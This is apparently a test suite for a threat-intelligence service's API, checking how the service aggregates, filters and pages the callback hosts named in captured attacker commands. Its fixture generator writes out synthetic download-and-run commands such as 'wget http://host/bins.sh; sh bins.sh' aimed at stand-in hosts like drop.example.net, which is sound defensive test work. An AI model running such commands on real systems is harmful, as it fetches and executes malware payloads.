import { removeObservations } from "@noisefloor/clickhouse/rollups/remove-observations.ts";
import { ipv4ToNumber, isIpv4 } from "@noisefloor/domain/address/ipv4.ts";
import type { Callback } from "@noisefloor/domain/callbacks/callback.ts";
import { findCallbacks } from "@noisefloor/domain/callbacks/find-callbacks.ts";
import { afterAll, beforeAll, expect, test } from "vitest";
import { z } from "zod";
import { networkList } from "../../support/builders/network-list.ts";
import { seeded } from "../../support/builders/random.ts";
import { createWorld, type World } from "../../support/worlds/world.ts";

const HOUR = 60 * 60 * 1000;
const DAY = 24 * HOUR;
const NOW = Date.now();
const TEAM = "team-a";
const REMOVED = "removed";
const random = seeded(7);

const HOSTS = [
  ...["45.8.0.1", "45.8.0.2", "45.8.0.3", "45.8.0.10", "8.8.8.8", "45.8.7.1"],
  ...["drop.example.net", "a.evil.example.net", "raw.githubusercontent.com", "cdn.files.example.org"],
];
/** Of a benign service, of the list that comes along, and of the workspace. */
const KNOWN = ["8.8.8.8", "raw.githubusercontent.com", "cdn.files.example.org"];
const digest = (number: number) => number.toString(16).padStart(64, "0");

function saidBy(): { commands?: string[]; urls?: string[]; payload_sha256?: string[] } {
  const host = random.pick(HOSTS);
  const name = random.pick(["bins.sh", "x86", "Mirai.exe", "a/loader.sh?id=1"]);
  return random.pick([
    () => ({ commands: [`cd /tmp; wget http://${host}/${name}; sh ${name}`] }),
    () => ({ commands: [`curl -O http://${host}:8080/${name}`, "uname -a"] }),
    () => ({ urls: [`http://${host}/${name}`], payload_sha256: [digest(random.int(1, 6))] }),
    () => ({ urls: [`http://${host}/${name}`, `ftp://${random.pick(HOSTS)}/y`] }),
    () => ({}),
  ])();
}

const observations = Array.from({ length: 700 }, (_, index) => {
  const age = random.chance(0.5) ? random.int(0, 3 * DAY) : random.int(0, 40 * DAY);
  const at = random.chance(0.2) ? Math.floor((NOW - age) / HOUR) * HOUR - random.int(0, 1) : NOW - age;
  const dataset = random.pick(["global", "global", "community", "personal"] as const);
  return {
    observation_id: `o-${index}`,
    observed_at: new Date(at).toISOString(),
    sensor_id: random.chance(0.1) ? REMOVED : "s",
    source_ip: `45.0.0.${random.int(1, 60)}`,
    transport: "tcp",
    dataset,
    ...(dataset === "personal" ? { workspace_id: random.pick([TEAM, "team-b"]) } : {}),
    ...saidBy(),
  };
});
/** Each session comes as two records in different batches, of which the second makes its row anew. */
const sessions = Array.from({ length: 30 }, (_, index) => {
  const about = {
    ...{
      observed_at: new Date(NOW - random.int(0, 10 * DAY)).toISOString(),
      sensor_id: "s",
      dataset: "global" as const,
    },
    ...{ source_ip: `45.0.1.${index}`, transport: "tcp", session_id: `session-${index}` },
  };
  return [
    { ...about, observation_id: `s-${index}-1`, ...saidBy() },
    { ...about, observation_id: `s-${index}-2`, ...saidBy() },
  ] as const;
});
const all = [...observations, ...sessions.flat()];

type Named = Callback & { readonly ip: string; readonly at: number; readonly scope: string };
const named: readonly Named[] = all
  .filter(({ sensor_id }) => sensor_id !== REMOVED)
  .flatMap((one) => {
    const scope = "workspace_id" in one ? `personal ${one.workspace_id}` : one.dataset;
    const at = Date.parse(one.observed_at);
    return findCallbacks(one, () => false).map((callback) => ({ ...callback, ip: one.source_ip, at, scope }));
  });

let world: World;
let key: string;
beforeAll(async () => {
  world = await createWorld(() => NOW);
  key = await world.addCaller("unlimited", ["community_dataset"], TEAM);
  await world.replaceNetworks("service", [networkList("resolver", ["8.8.8.0/24"], { trustLevel: "1" })]);
  const queue = random.shuffle([...observations, ...observations.filter(() => random.chance(0.3))]);
  while (queue.length > 0) expect((await world.store(queue.splice(0, 250))).rejected).toEqual([]);
  await world.store(sessions.map(([first]) => first));
  await world.store(sessions.map(([, second]) => second));
  await removeObservations(world.client, { sensors: [REMOVED] });
  const added = await world.post("/v3/callback/known", { host: "Files.Example.ORG.", note: "our mirror" }, { key });
  expect(added).toMatchObject({ status: 201, body: { host: "files.example.org", origin: "own", note: "our mirror" } });
}, 120_000);
afterAll(() => world.close());

const callbacksSchema = z.object({
  count: z.int(),
  callbacks: z.array(
    z.object({
      ...{ host: z.string(), kind: z.string(), known: z.boolean(), known_as: z.string(), visitors: z.int() },
      ...{ ports: z.array(z.int()), schemes: z.array(z.string()), first_seen: z.string(), last_seen: z.string() },
      ...{ commands: z.array(z.string()), urls: z.array(z.string()), sha256: z.array(z.string()) },
    }),
  ),
});
const ask = async (path: string, headers = { key }) => callbacksSchema.parse((await world.get(path, headers)).body);

const second = (at: number) => new Date(Math.floor(at / 1_000) * 1_000).toISOString().replace(".000Z", "Z");
const distinct = <T>(values: readonly T[]) => [...new Set(values)];
const lastOf = (rows: readonly Named[]) => Math.max(...rows.map(({ at }) => at));
const inTextOrder = (one: string, other: string) => (one < other ? -1 : one > other ? 1 : 0);
/** Each value once, the last seen first, ties by value. */
function newestFirst(rows: readonly Named[], textOf: (row: Named) => string): string[] {
  const last = new Map<string, number>();
  for (const row of rows) last.set(textOf(row), Math.max(row.at, last.get(textOf(row)) ?? 0));
  last.delete("");
  const entries = [...last].sort(([one, oneAt], [other, otherAt]) => otherAt - oneAt || inTextOrder(one, other));
  return entries.map(([value]) => value);
}

function hostsOf(rows: readonly Named[], tie: (one: string, other: string) => number = inTextOrder) {
  const hosts = distinct(rows.map(({ host }) => host)).map((host) => ({
    host,
    rows: rows.filter((row) => row.host === host),
  }));
  return hosts.sort((one, other) => lastOf(other.rows) - lastOf(one.rows) || tie(one.host, other.host));
}

const USUAL: Readonly<Record<string, number>> = { http: 80, ftp: 21 };
function expectedCallbacks(rows: readonly Named[]) {
  const callbacks = hostsOf(rows).map(({ host, rows: own }) => ({
    host,
    kind: isIpv4(host) ? "address" : "name",
    known: KNOWN.includes(host),
    ports: distinct(own.map(({ port }) => port)).sort((one, other) => one - other),
    schemes: distinct(own.map(({ scheme }) => scheme)).sort(),
    first_seen: second(Math.min(...own.map(({ at }) => at))),
    last_seen: second(lastOf(own)),
    visitors: distinct(own.map(({ ip }) => ip)).length,
    commands: newestFirst(own, ({ text }) => (/^\w+:\/\/\S*$/.test(text) ? "" : text)).slice(0, 20),
    urls: newestFirst(
      own,
      ({ scheme, port, path }) => `${scheme}://${host}${port === USUAL[scheme] ? "" : `:${port}`}${path}`,
    ).slice(0, 20),
    sha256: newestFirst(own, ({ sha256 }) => sha256),
  }));
  return { count: callbacks.length, callbacks };
}
const withoutNames = ({ count, callbacks }: z.output<typeof callbacksSchema>) => ({
  count,
  callbacks: callbacks.map(({ known_as, ...row }) => row),
});
const isGlobal = ({ scope }: Named) => scope === "global";
const since = (days: number) => Math.ceil(NOW / HOUR) * HOUR - days * DAY;

test("the hosts that visitors named are those of the observations, counted one by one, also after late, repeated and removed ones", async () => {
  expect(named.length).toBeGreaterThan(400);
  const found = await ask("/v3/callbacks");
  expect(withoutNames(found)).toEqual(expectedCallbacks(named.filter(isGlobal)));
  expect(Object.fromEntries(found.callbacks.map((row) => [row.host, row.known_as]))).toMatchObject({
    "8.8.8.8": "Operator of resolver",
    "raw.githubusercontent.com": "GitHub",
    "cdn.files.example.org": "our mirror",
    "45.8.0.1": "",
  });
  for (const days of [1, 2, 7, 30]) {
    const recent = named.filter((row) => isGlobal(row) && row.at >= since(days));
    expect(withoutNames(await ask(`/v3/callbacks?days=${days}`)), `${days} days`).toEqual(expectedCallbacks(recent));
  }
});

test("callbacks are of the scopes that are asked for, and of a workspace alone for its key", async () => {
  const labels = "community,personal";
  const own = named.filter(({ scope }) => scope === "community" || scope === `personal ${TEAM}`);
  expect(withoutNames(await ask(`/v3/callbacks?workspace_labels=${labels}`))).toEqual(expectedCallbacks(own));
  const everywhere = named.filter(({ scope }) => scope !== "personal team-b");
  const found = await ask(`/v3/callbacks?workspace_labels=global,${labels}&days=3`);
  expect(withoutNames(found)).toEqual(expectedCallbacks(everywhere.filter(({ at }) => at >= since(3))));
  expect((await world.get(`/v3/callbacks?workspace_labels=${labels}`, {})).status).toBe(403);
});

test("a query selects the visitors, and callback: in it finds those who named a host, also a known one", async () => {
  const fromQuarter = named.filter(
    (row) => isGlobal(row) && ipv4ToNumber(row.ip) % 256 < 16 && row.ip.startsWith("45.0.0."),
  );
  expect(withoutNames(await ask("/v3/callbacks?query=ip:45.0.0.0/28"))).toEqual(expectedCallbacks(fromQuarter));
  const namers = (isNamed: (row: Named) => boolean) =>
    new Set(
      named
        .filter(isGlobal)
        .filter(isNamed)
        .map(({ ip }) => ip),
    );
  for (const [query, isNamed] of [
    ['callback:"45.8.0.1"', ({ host }: Named) => host === "45.8.0.1"],
    ["callback:*.evil.example.net", ({ host }: Named) => host.endsWith(".evil.example.net")],
    ["callback:*", () => true],
    ["callback:raw.githubusercontent.com", ({ host }: Named) => host === "raw.githubusercontent.com"],
  ] as const) {
    const ips = namers(isNamed);
    const counted = await world.get(`/v3/gnql/count?query=${encodeURIComponent(query)}`, { key });
    expect(counted.body, query).toMatchObject({ count: ips.size });
    const rows = named.filter((row) => isGlobal(row) && ips.has(row.ip));
    const found = await ask(`/v3/callbacks?query=${encodeURIComponent(query)}`);
    expect(withoutNames(found), query).toEqual(expectedCallbacks(rows));
  }
  const recent = namers(({ host, at }) => host === "drop.example.net" && at >= since(2));
  const counted = await world.get("/v3/gnql/count?query=callback:drop.example.net&days=2", { key });
  expect(counted.body).toMatchObject({ count: recent.size });
  expect(await world.get("/v3/callbacks?query=callbak:x", { key })).toMatchObject({ status: 400 });
});

test("known hosts are told apart, and a list has as many as it may, the last named first", async () => {
  const global = named.filter(isGlobal);
  const others = global.filter(({ host }) => !KNOWN.includes(host));
  expect(withoutNames(await ask("/v3/callbacks?known=false"))).toEqual(expectedCallbacks(others));
  const known = global.filter(({ host }) => KNOWN.includes(host));
  expect(withoutNames(await ask("/v3/callbacks?known=true"))).toEqual(expectedCallbacks(known));
  const { count, callbacks } = expectedCallbacks(others);
  expect(withoutNames(await ask("/v3/callbacks?known=false&limit=2"))).toEqual({
    count,
    callbacks: callbacks.slice(0, 2),
  });
});

test("a known host says where it is from and how often it held something back; a workspace adds and removes its own", async () => {
  const known = async (headers = { key }) => (await world.get("/v3/callback/known", headers)).body;
  const global = named.filter(isGlobal);
  const heldBack = (host: string) => {
    const rows = global.filter((row) => row.host === host);
    return { hosts: 1, visitors: distinct(rows.map(({ ip }) => ip)).length, last_seen: second(lastOf(rows)) };
  };
  expect(await known()).toMatchObject({
    guarded: 1,
    hosts: expect.arrayContaining([
      expect.objectContaining({
        host: "files.example.org",
        origin: "own",
        held_back: heldBack("cdn.files.example.org"),
      }),
      expect.objectContaining({
        host: "githubusercontent.com",
        origin: "included",
        source: expect.stringMatching(/^https:/),
        date: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
        held_back: heldBack("raw.githubusercontent.com"),
      }),
    ]),
  });
  const other = await world.addCaller("unlimited", [], "team-b");
  expect(await known({ key: other })).not.toMatchObject({
    hosts: expect.arrayContaining([expect.objectContaining({ origin: "own" })]),
  });
  expect((await world.get("/v3/callback/known", {})).status).toBe(401);
  expect((await world.post("/v3/callback/known", { host: "example.org" }, {})).status).toBe(401);
  for (const host of ["org", "http://example.org/", "45.0.0.0/8", ""]) {
    expect((await world.post("/v3/callback/known", { host }, { key })).status, host).toBe(400);
  }
  expect((await world.post("/v3/callback/known", { host: "evil.example.net" }, { key })).status).toBe(201);
  const remove = (host: string) =>
    world.app.inject({ method: "DELETE", url: `/v3/callback/known/${host}`, headers: { key } });
  expect((await ask("/v3/callbacks?known=false")).callbacks.map(({ host }) => host)).not.toContain(
    "a.evil.example.net",
  );
  expect((await remove("evil.example.net")).statusCode).toBe(204);
  expect((await remove("evil.example.net")).statusCode).toBe(404);
  expect((await remove("github.com")).statusCode).toBe(404);
  expect((await ask("/v3/callbacks?known=false")).callbacks.map(({ host }) => host)).toContain("a.evil.example.net");
});

const itemSchema = z.object({
  ...{
    ip: z.string(),
    is_stage_1: z.boolean(),
    is_stage_2: z.boolean(),
    first_seen: z.string(),
    last_seen: z.string(),
  },
  ...{ scanner_ips: z.array(z.string()), scanner_count: z.int(), file_count: z.int() },
  files: z.array(z.object({ sha256: z.string(), file_name: z.string(), type: z.string() })),
});
const pageSchema = z.object({ items: z.array(itemSchema), total: z.int(), page: z.int(), page_size: z.int() });
const nameOfFile = (path: string) => path.replace(/\?.*/, "").split("/").at(-1) ?? "";
const TYPES: Readonly<Record<string, string>> = {
  "bins.sh": "text/x-shellscript",
  "loader.sh": "text/x-shellscript",
  "Mirai.exe": "application/x-dosexec",
  x86: "application/x-executable",
};
const byAddress = (one: string, other: string) => ipv4ToNumber(one) - ipv4ToNumber(other);

const addressRows = () => named.filter((row) => isGlobal(row) && isIpv4(row.host) && !KNOWN.includes(row.host));
type Host = ReturnType<typeof hostsOf>[number];
const withFiles = (rows: readonly Named[]) => rows.filter(({ sha256 }) => sha256 !== "");
const expectedHosts = (isWanted: (host: Host) => boolean = () => true) =>
  hostsOf(addressRows(), byAddress).filter(isWanted);
const toItem = ({ host, rows }: Host) => ({
  ...{ ip: host, is_stage_1: true, is_stage_2: false },
  first_seen: second(Math.min(...rows.map(({ at }) => at))),
  last_seen: second(lastOf(rows)),
  scanner_ips: newestFirst(rows, ({ ip }) => ip),
  scanner_count: distinct(rows.map(({ ip }) => ip)).length,
  file_count: distinct(withFiles(rows).map(({ sha256 }) => sha256)).length,
  files: newestFirst(rows, ({ sha256 }) => sha256).map((sha256) => {
    const own = rows.filter((row) => row.sha256 === sha256);
    const newest = own
      .filter(({ at }) => at === lastOf(own))
      .map(({ path }) => nameOfFile(path))
      .sort(inTextOrder);
    const file_name = newest.at(-1) ?? "";
    return { sha256, file_name, type: TYPES[file_name] ?? "" };
  }),
});

test("a client of the hosted service pages through the addresses of callbacks, each once, with who named them and which files", async () => {
  const expected = expectedHosts().map(toItem);
  const pages: z.output<typeof itemSchema>[] = [];
  for (let page = 0; ; page++) {
    const { body } = await world.post("/v1/callback/ips", { page, page_size: 2 }, { key });
    const read = pageSchema.parse(body);
    expect(read).toMatchObject({ total: expected.length, page, page_size: 2 });
    pages.push(...read.items);
    if (read.items.length < 2) break;
  }
  expect(pages).toEqual(expected);
  const without = await world.app.inject({ method: "POST", url: "/v1/callback/ips", headers: { key } });
  expect(pageSchema.parse(without.json())).toMatchObject({ items: expected, page: 0, page_size: 20 });
  for (const item of expected) {
    expect((await world.get(`/v1/callback/ip/${item.ip}`, { key })).body).toMatchObject({
      ...item,
      active_files: item.files,
    });
  }
  for (const ip of ["8.8.8.8", "45.8.9.9"])
    expect((await world.get(`/v1/callback/ip/${ip}`, { key })).status).toBe(404);
  expect((await world.get("/v1/callback/ip/10.0.0.1", { key })).status).toBe(400);
});

const middle = new Date(NOW - 2 * DAY).toISOString();
const day = middle.slice(0, 10);
const first = ({ rows }: Host) => Math.min(...rows.map(({ at }) => at));
const last = ({ rows }: Host) => lastOf(rows);
test.each<[object, (host: Host) => boolean]>([
  [{ is_stage_1: true, is_stage_2: false }, () => true],
  [{ is_stage_1: false }, () => false],
  [{ is_stage_2: true }, () => false],
  [{ first_seen_after: middle }, (host) => first(host) >= Date.parse(middle)],
  [{ first_seen_before: middle }, (host) => first(host) < Date.parse(middle)],
  [{ last_seen_after: day }, (host) => last(host) >= Date.parse(day)],
  [{ last_seen_before: day }, (host) => last(host) < Date.parse(day)],
  [{ has_files: true }, ({ rows }) => withFiles(rows).length > 0],
  [{ has_files: false }, ({ rows }) => withFiles(rows).length === 0],
  [{ file_type: "application/x-dosexec" }, ({ rows }) => withFiles(rows).some(({ path }) => path.endsWith(".exe"))],
  [{ file_name: "mirai" }, ({ rows }) => withFiles(rows).some(({ path }) => path.includes("Mirai"))],
  [{ file_hash: digest(3).toUpperCase() }, ({ rows }) => rows.some(({ sha256 }) => sha256 === digest(3))],
  [
    { scanner_ips: ["45.0.0.7", "45.0.0.8"] },
    ({ rows }) => rows.some(({ ip }) => ip === "45.0.0.7" || ip === "45.0.0.8"),
  ],
  [{ ips: ["45.8.0.2", "8.8.8.8", "45.8.9.9"] }, ({ host }) => host === "45.8.0.2"],
  [{ ips: ["::ffff:45.8.0.2", "drop.example.net"] }, ({ host }) => host === "45.8.0.2"],
  [{ ips: [] }, () => false],
])("the filter %j has the same addresses in the list, the export and the overview", async (filter, isWanted) => {
  const hosts = expectedHosts(isWanted);
  const page = pageSchema.parse((await world.post("/v1/callback/ips", { ...filter, page_size: 100 }, { key })).body);
  expect(page).toMatchObject({ items: hosts.map(toItem), total: hosts.length });
  const exported = await world.app.inject({
    ...{ method: "POST", url: "/v1/callback/export-ips", headers: { key }, payload: filter },
  });
  expect(exported.headers["content-type"]).toMatch(/^text\/plain/);
  expect(exported.body).toBe(hosts.map(({ host }) => `${host}\n`).join(""));
  const items = hosts.map(toItem);
  const rows = hosts.flatMap((host) => host.rows);
  const sum = (numbers: readonly number[]) => numbers.reduce((total, number) => total + number, 0);
  expect((await world.post("/v1/callback/overview", filter, { key })).body).toMatchObject({
    total_ips: hosts.length,
    stage_1_ips: hosts.length,
    total_files: distinct(withFiles(rows).map(({ sha256 }) => sha256)).length,
    total_cross_refs: sum(items.map(({ file_count }) => file_count)),
    total_scanner_links: sum(items.map(({ scanner_count }) => scanner_count)),
    ips_with_files: items.filter(({ file_count }) => file_count > 0).length,
    distinct_scanners: distinct(rows.map(({ ip }) => ip)).length,
  });
});

test.each([
  { page: -1 },
  { page_size: 101 },
  { has_files: "yes" },
  { ips: [1] },
  { first_seen_after: "2026-13-01" },
  { scanner_ips: "45.0.0.1" },
])("the body %j is a 400 of the hosted service's calls", async (body) => {
  expect((await world.post("/v1/callback/ips", body, { key })).status).toBe(400);
});
